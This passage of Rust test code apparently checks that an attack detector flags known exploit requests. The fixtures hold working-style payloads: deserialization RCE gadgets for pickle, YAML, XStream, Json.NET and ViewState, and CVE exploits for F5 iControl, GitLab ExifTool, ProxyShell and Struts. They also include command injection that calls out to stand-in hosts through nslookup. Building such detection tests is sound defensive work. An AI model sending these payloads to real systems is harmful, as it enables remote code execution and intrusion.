        ("pyyaml form", AttackClass::Rce, req("POST", "/api", form, b"data=%21%21python%2Fobject%2Fapply%3Asubprocess.check_output%0A-+%5Bid%5D")),
        ("ruby yaml", AttackClass::Rce, req("POST", "/api", yaml, b"--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n")),
        ("pickle", AttackClass::Rce, req("POST", "/api", &[("Content-Type", "application/octet-stream")], b"cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.")),
        ("pickle base64 cookie", AttackClass::Rce, req("GET", "/", &[("Cookie", "session=Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==")], b"")),
        ("xstream", AttackClass::Rce, req("POST", "/api", xml, b"<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>")),
        ("json.net", AttackClass::Rce, req("POST", "/api", json, br#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}"#)),
        ("telerik", AttackClass::Rce, req("POST", "/Telerik.Web.UI.WebResource.axd?type=rau", &[("Content-Type", "multipart/form-data; boundary=b")], b"--b\r\nContent-Disposition: form-data; name=\"rauPostData\"\r\n\r\nx\r\n&{\"$type\":\"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0\",\"Path\":\"file:///c:/windows/temp/x.dll\"}\r\n--b--\r\n")),
        ("jackson", AttackClass::Rce, req("POST", "/api", json, br#"["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x/a"}]"#)),
        ("viewstate", AttackClass::Rce, req("POST", "/default.aspx", form, b"__VIEWSTATE=%2FwEyxBEAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAASVN5c3RlbSwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODkFAQAAAIQBU3lzdGVtLkNvbGxlY3Rpb25zLkdlbmVyaWMuU29ydGVkU2V0YDFb&__VIEWSTATEGENERATOR=CA0B0334")),
    ];
    let misses = review36a_misses(&cases);
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}

/// Well-known exploits with no hit of their class: F5 iControl REST
/// (CVE-2022-1388; Apache drops the `X-F5-Auth-Token` that `Connection`
/// names as hop-by-hop and the back end runs `utilCmdArgs` as root),
/// GitLab ExifTool (CVE-2021-22205; ExifTool evals the DjVu annotation's
/// `" . qx{...} . "`), Exchange ProxyShell (CVE-2021-34473; the front end
/// strips `autodiscover.json?@x` and proxies to any back-end path), a
/// Struts2 OGNL evaluation probe (`%{7*7}`, S2-061) and an out-of-band
/// command injection (`;nslookup host`).
/// Severity: High.
#[test]
fn review36a_well_known_exploits_are_detected() {
    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
    let cases = [
        ("f5 CVE-2022-1388", AttackClass::Rce, req("POST", "/mgmt/tm/util/bash", &[("Content-Type", "application/json"), ("Connection", "keep-alive, X-F5-Auth-Token"), ("X-F5-Auth-Token", "a"), ("Authorization", "Basic YWRtaW46")], br#"{"command":"run","utilCmdArgs":"-c id"}"#)),
        ("gitlab exiftool", AttackClass::Rce, req("POST", "/uploads/user", &[("Content-Type", "multipart/form-data; boundary=b")], b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"test.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.\x81\x00\x02\x00\x00\x00F\x00\x00\x00\xac\xff\xff\xde\xbf\x99 !\xc8\x91N\xeb\x0c\x07\x1f\xd2\xda\x88\xe8k\xe6D\x0f,q\x02\xeeI\xd3n\x95\xbd\xa2\xc3\"?FORM\x00\x00\x03\x07DJVIANTa\x00\x00\x01P(metadata\n\t(Copyright \"\\\n\" . qx{echo vakzz >/tmp/vakzz} . \\\n\" b \") )\n\r\n--b--\r\n")),
        ("proxyshell", AttackClass::Ssrf, req("GET", "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", &[], b"")),
        ("proxynotshell", AttackClass::Ssrf, req("POST", "/autodiscover/autodiscover.json?a@foo.var/owa/&Email=autodiscover/autodiscover.json?a@foo.var&Protocol=XYZ&FooProtocol=Powershell", &[], b"")),
        ("struts probe", AttackClass::Rce, req("GET", "/index.action?id=%25%7B7*7%7D", &[], b"")),
        ("struts action prefix", AttackClass::Rce, req("GET", "/index.action?action:%25%7B3*4%7D", &[], b"")),
        ("nslookup", AttackClass::Rce, req("POST", "/diag", form, b"host=127.0.0.1%3Bnslookup+x7k2.oast.example")),
        ("nslookup substitution", AttackClass::Rce, req("GET", "/diag?host=a%7Cnslookup%20%60whoami%60.x7k2.example", &[], b"")),
    ];
    let misses = review36a_misses(&cases);
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}
